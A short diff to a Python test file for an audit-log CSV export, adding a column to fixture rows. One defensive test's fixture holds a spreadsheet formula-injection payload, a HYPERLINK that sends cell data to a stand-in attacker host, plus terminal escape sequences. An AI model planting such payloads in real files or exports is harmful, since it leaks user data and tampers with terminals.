@@ -24,7 +24,7 @@ NOW = 1_800_000_000.0
 
 
 def _fill(db, stamps: list[float], text: str = "") -> None:
-    rows = [(ts, f"req-{i}", "k1", None, "m", "chat", "m#0", 200, 3, 4, 1.0, None, None, text or None, None, None, None)
+    rows = [(ts, f"req-{i}", "k1", None, "m", "chat", "m#0", 200, 3, 4, 1.0, None, None, text or None, None, None, None, None)
             for i, ts in enumerate(stamps)]
     db.execute("BEGIN")
     db.executemany(f"INSERT INTO audit ({', '.join(COLUMNS)}) VALUES ({', '.join('?' * len(COLUMNS))})", rows)
@@ -132,7 +132,7 @@ def test_a_csv_export_neither_runs_a_clients_formula_in_a_spreadsheet_nor_its_es
     db = connect(path_in(tmp_path / "state"))
     formula, prompt = '=HYPERLINK("http://evil.example/?"&A1)', "\x1b]0;PWNED\x07hi\r\nthere\x9b2J"
     db.execute(f"INSERT INTO audit ({', '.join(COLUMNS)}) VALUES ({', '.join('?' * len(COLUMNS))})",
-               (NOW, "@SUM(1+1)", None, None, formula, "chat", None, 404, None, None, 1.0, None, None, prompt, None, None, None))
+               (NOW, "@SUM(1+1)", None, None, formula, "chat", None, 404, None, None, 1.0, None, None, prompt, None, None, None, None))
     db.commit()
     out = _export(cfg, "--format", "csv")
     assert out.returncode == 0, out.stderr
